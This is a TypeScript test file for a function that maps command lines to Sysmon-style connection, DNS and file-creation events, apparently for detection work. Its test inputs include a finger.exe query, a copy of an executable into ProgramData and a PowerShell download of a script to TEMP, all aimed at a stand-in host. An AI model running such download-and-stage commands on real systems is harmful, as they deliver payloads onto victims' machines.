import { ioEffects } from './command-io-effects';

const byId = (commandLine: string, image: string, windows = true) =>
  ioEffects(commandLine, image, windows).map((event) => [
    event['EventID'],
    event['TargetFilename'] ?? event['DestinationHostname'] ?? event['DestinationIp'] ?? event['QueryName'],
    event['DestinationPort'] ?? null,
  ]);

describe('the network and file traces of a program run', () => {
  it("records finger's query on port 79, as Sysmon would record finger.exe's connection", () => {
    expect(ioEffects('finger loader@quill.example.net', 'C:\\Windows\\System32\\finger.exe', true)).toEqual([
      {
        EventID: 3,
        Image: 'C:\\Windows\\System32\\finger.exe',
        Initiated: 'true',
        DestinationPort: 79,
        DestinationHostname: 'quill.example.net',
      },
      { EventID: 22, Image: 'C:\\Windows\\System32\\finger.exe', QueryName: 'quill.example.net' },
    ]);
  });

  it('records the file a copy lands, and the file PowerShell code told to write downloads', () => {
    expect(byId('copy \\\\files\\share\\q.exe C:\\ProgramData\\Quill\\', 'C:\\Windows\\System32\\cmd.exe')).toEqual([
      [11, 'C:\\ProgramData\\Quill\\q.exe', null],
    ]);
    const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    expect(byId('powershell -c "Invoke-WebRequest https://quill.example.net/s.ps1 -OutFile $env:TEMP\\s.ps1"', powershell)).toEqual([
      [3, 'quill.example.net', 443],
      [22, 'quill.example.net', null],
      [11, 'C:\\Users\\user\\AppData\\Local\\Temp\\s.ps1', null],
    ]);
  });

  it('records no connection for a program that only prints a URL', () => {
    expect(ioEffects('echo https://quill.example.net/', '/usr/bin/echo', false)).toEqual([]);
  });
});
